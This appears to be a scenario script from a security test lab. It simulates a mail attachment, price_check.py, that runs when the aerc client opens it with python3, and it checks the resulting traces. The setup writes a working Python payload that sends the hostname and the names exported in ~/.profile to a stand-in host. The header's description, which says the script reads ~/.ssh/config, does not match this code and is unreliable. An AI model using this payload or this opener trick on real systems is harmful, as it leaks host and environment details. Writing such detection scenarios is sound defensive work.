# A mail client in a terminal opens an attachment with the program that its settings name for the type: an interpreter.
title="aerc opens a Python attachment with python3"
what="dev reads the Maildir in aerc over SSH. dev's settings open Python texts with python3, as dev's own are small reports; the attachment price_check.py of a stranger is opened so. aerc writes it to /tmp and starts python3 on it, which reads ~/.ssh/config and posts the host's name to 203.0.113.66."
host=mx1.example.org user=dev daemons="cron sshd"

setup() {
  install -d -o dev -g dev /home/dev/.config /home/dev/.config/aerc
  printf '[desk]\nsource = maildir:///home/dev\ndefault = Maildir\nfrom = dev <dev@example.org>\n' > /home/dev/.config/aerc/accounts.conf
  sed '/^\[openers\]/,$d' /usr/share/aerc/aerc.conf > /home/dev/.config/aerc/aerc.conf
  printf '[openers]\ntext/x-python = python3 {}\n' >> /home/dev/.config/aerc/aerc.conf
  chown dev: /home/dev/.config/aerc/*; chmod 600 /home/dev/.config/aerc/accounts.conf
  printf 'import os, socket, urllib.request\nnames = [line.split()[1] for line in open(os.path.expanduser("~/.profile")) if line.startswith("export ")]\nurllib.request.urlopen("http://drop.example.net/p", data=(socket.gethostname() + " ".join(names)).encode()).read()\n' > "$base/out/price_check.py"
}
act() {
  small_talk 2
  mail_in --from purchase@example.com --to dev@example.org --subject "Price list, please check" --source 203.0.113.25 --helo smtp.example.com \
    --text "Hello,\n\nplease open the enclosed check against your list.\n" --attach "$base/out/price_check.py:text/x-python:price_check.py"
  wait_log 'from=<purchase@example.com>'; wait_mail dev 1; sleep 1
  ssh_as dev <<'L'
ls
%line aerc
%sleep 3
%keys \r
%sleep 2
%keys :next-part\r
%sleep 1
%keys :open\r
%sleep 3
%keys :quit\r
%sleep 1
uptime
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message reaches the Maildir of dev'
  file_step read 'aerc open(at)?:read NORMAL .*Maildir/' 'aerc reads it'
  file_step temporary 'aerc openat:write CREATE /tmp/aerc-' 'and writes the attachment to a temporary file'
  exec_step execute 'python3 /tmp/aerc-' 'python3 runs it'
  net_step post 'python3.* 203.0.113.66:80' 'which calls out'
}
